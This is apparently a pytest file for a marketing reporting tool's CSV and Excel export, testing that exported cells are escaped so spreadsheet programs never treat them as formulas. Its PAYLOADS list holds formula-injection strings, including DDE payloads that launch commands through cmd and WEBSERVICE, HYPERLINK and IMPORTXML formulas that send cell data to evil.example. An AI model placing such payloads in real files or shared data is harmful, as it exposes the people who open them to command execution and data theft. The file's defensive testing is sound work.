import csv as csv_format
import io
import shutil
import subprocess
from datetime import date, datetime

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import load_workbook

from smarketing.handout import tables
from smarketing.handout.headings import readable
from smarketing.metrics.acceptance import acceptance_rate, accepted
from smarketing.metrics.registry import evaluate
from smarketing.metrics.revenue import revenue

SAID = {
    "title": "Webinars are accepted most",
    "sentence": "Leads that became MQL in Oct 2026. As known at the end of 18 Nov 2026.",
    "definitions": {"Acceptance rate": "Accepted ÷ decided.\n\nPending ones stand apart."},
}

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd","/c calc","x")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "+49 30 1234567",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "- none",
    "-",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "@handle",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x01=1+1",
    "  \t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "a\n=1+1",
    "a;=1+1",
    'a","=1+1',
    "a\t=1+1",
    "=A1:A9",
    "=1,2",
    "-5",
    "+5",
    "=",
    "==1",
)


def rows_of(made):
    """The rows below the preamble, header first."""
    lines = list(csv_format.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
    return lines[lines.index([]) + 1 :]


def sheet_of(made, name="Numbers"):
    return load_workbook(io.BytesIO(made)).get_sheet_by_name(name).to_python()


def below(sheet, header):
    """The rows below the one that begins with `header`."""
    return sheet[[row[0] for row in sheet].index(header) + 1 :]


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


# --- CSV ------------------------------------------------------------------------------------------


def test_a_csv_opens_with_what_it_shows():
    made = tables.csv(pd.DataFrame({"source": ["a"]}), **SAID).decode("utf-8-sig")
    assert made.split("\r\n")[:5] == [
        "# Webinars are accepted most",
        "# Leads that became MQL in Oct 2026. As known at the end of 18 Nov 2026.",
        "# Acceptance rate: Accepted ÷ decided. Pending ones stand apart.",
        "",
        "source",
    ]


def test_each_line_on_top_is_one_cell_whatever_is_in_it():
    made = tables.csv(pd.DataFrame({"a": [1]}), title='x, "y";\n=1+1', sentence="s", definitions={})
    assert next(csv_format.reader(io.StringIO(made.decode("utf-8-sig")))) == ['# x, "y"; =1+1']


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_in_a_csv_is_a_formula(payload):
    header, row = rows_of(tables.csv(pd.DataFrame({payload: [payload]}), **SAID))
    for text in (*header, *row):
        assert not text.lstrip(" \u00a0\ufeff\u200b").startswith(tables.FORMULA)
        assert text in (payload, f"'{payload}") or text == f"'{payload.replace('_', ' ')}"


def test_harmless_text_stays_as_it_is():
    texts = ["Müller & Söhne", "(none)", "a-b", "1+1", "2026-11-18", "", "– none", "é=1"]
    assert [tables.harmless(t) for t in texts] == texts


@given(st.text())
def test_a_harmless_text_loses_nothing_but_gains_at_most_an_apostrophe(text):
    assert tables.harmless(text) in (text, f"'{text}")


def test_numbers_stay_numbers_in_full_precision():
    frame = pd.DataFrame({"whole": [-5.0, 1e3], "part": [-1 / 3, 0.1], "missing": [None, 2.0]})
    assert rows_of(tables.csv(frame, **SAID))[1:] == [["-5", repr(-1 / 3), ""], ["1000", "0.1", "2"]]


def test_dates_are_dates_and_moments_moments():
    frame = pd.DataFrame({"day": [pd.Timestamp("2026-11-18")], "at": [pd.Timestamp("2026-11-18 09:30:00")]})
    assert rows_of(tables.csv(frame, **SAID))[1] == ["2026-11-18", "2026-11-18 09:30:00"]


def test_text_of_any_kind_survives_a_csv():
    names = ["a,b", 'say "x"', "two\nlines", "Ünïcode 日本", "semi;colon"]
    assert [row[0] for row in rows_of(tables.csv(pd.DataFrame({"n": names}), **SAID))[1:]] == names


def test_an_empty_table_still_says_what_it_would_show():
    assert rows_of(tables.csv(pd.DataFrame({"source": []}), **SAID)) == [["source"]]


# --- headings -------------------------------------------------------------------------------------


def test_a_metrics_column_has_its_name_and_its_unit():
    frame = pd.DataFrame({"source": ["a"], "accepted": [3], "revenue": [9.5], "too_young": [1], "my_own": [2]})
    told = readable(frame, currency="EUR")
    assert list(told.columns) == ["source", "Accepted (count)", "Revenue (EUR)", "Too young (count)", "my own"]


def test_a_tidy_frame_names_each_metric_and_tells_its_unit():
    sums = pd.DataFrame({"source": ["a"], "accepted": [3], "accepted_due": [3], "rejected_due": [1]})
    told = readable(evaluate([accepted, acceptance_rate], sums, by=["source"]))
    assert list(told["metric"]) == ["Accepted", "Acceptance rate"]
    assert list(told["unit"]) == ["count", "share, 0 to 1"]
    columns = ["source", "metric", "unit", "value", "numerator", "denominator", "low (95 %)", "high (95 %)"]
    assert list(told.columns) == columns


def test_the_frame_that_came_in_is_not_changed():
    frame = pd.DataFrame({"metric": [revenue.key], "value": [1.0]})
    before = frame.copy()
    tables.csv(frame, **SAID)
    tables.excel(frame, **SAID)
    pd.testing.assert_frame_equal(frame, before)


# --- Excel ----------------------------------------------------------------------------------------


def test_a_workbook_opens_with_what_it_shows_and_keeps_the_definitions():
    made = tables.excel(pd.DataFrame({"source": ["a"]}), **SAID)
    sheet = sheet_of(made)
    assert [row[0] for row in sheet[:3]] == [SAID["title"], SAID["sentence"], "Acceptance rate: Accepted ÷ decided."]
    assert sheet_of(made, "Definitions") == [["Acceptance rate", SAID["definitions"]["Acceptance rate"]]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_in_a_workbook_is_a_formula(payload):
    made = tables.excel(pd.DataFrame({"n": [payload]}), title=payload, sentence=payload, definitions={payload: payload})
    assert "<f>" not in _xml(made)
    assert "<hyperlink" not in _xml(made)
    if payload.isprintable():
        assert below(sheet_of(made), "n")[0][0] == payload


def test_a_workbook_has_numbers_dates_and_yes_or_no():
    frame = pd.DataFrame(
        {"n": [-1 / 3], "day": [pd.Timestamp("2026-11-18")], "at": [datetime(2026, 11, 18, 9, 30)], "ok": [True]}  # noqa: DTZ001
    )
    row = below(sheet_of(tables.excel(frame, **SAID)), "n")[0]
    assert row == [-1 / 3, date(2026, 11, 18), datetime(2026, 11, 18, 9, 30), True]  # noqa: DTZ001


def test_what_is_missing_is_an_empty_cell():
    frame = pd.DataFrame({"n": [None, 1.0], "t": [None, "x"], "d": [pd.NaT, pd.Timestamp("2026-11-18")]})
    assert below(sheet_of(tables.excel(frame, **SAID)), "n")[0] in ([], ["", "", ""])


def test_a_text_too_long_for_a_cell_ends_in_dots():
    made = tables.excel(pd.DataFrame({"n": ["x" * 40_000]}), **SAID)
    text = below(sheet_of(made), "n")[0][0]
    assert (len(text), text[-1]) == (tables.LONGEST_CELL, "…")


def test_an_endless_number_is_text_in_a_workbook():
    made = tables.excel(pd.DataFrame({"n": [float("inf"), 1.0]}), **SAID)
    assert below(sheet_of(made), "n")[0][0] == "inf"


def test_more_rows_than_a_sheet_holds_go_on_to_the_next(monkeypatch):
    monkeypatch.setattr(tables, "SHEET_ROWS", 2)
    made = tables.excel(pd.DataFrame({"n": [1, 2, 3]}), **SAID)
    assert [row[0] for row in below(sheet_of(made), "n")] == [1, 2]
    assert [row[0] for row in below(sheet_of(made, "Numbers 2"), "n")] == [3]


def _xml(made):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(made)) as book:
        return "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))


# --- what another program makes of it -------------------------------------------------------------


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed (libreoffice-calc-nogui)")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_libreoffice_finds_no_formula_in_any_payload(kind, tmp_path):
    frame = pd.DataFrame({"n": list(PAYLOADS), "number": [-1.5] * len(PAYLOADS)})
    file = tmp_path / f"table.{kind}"
    file.write_bytes(tables.csv(frame, **SAID) if kind == "csv" else tables.excel(frame, **SAID))
    # UTF-8, commas, formulas evaluated: a raw "=1+1" comes out as a formula this way
    reads = ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"] if kind == "csv" else []
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", *reads, "--convert-to", "fods",
         "--outdir", str(tmp_path), str(file)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    read = (tmp_path / "table.fods").read_text()
    assert "table:formula" not in read
    assert 'xlink:href="http' not in read
    assert read.count('office:value="-1.5"') == len(PAYLOADS)
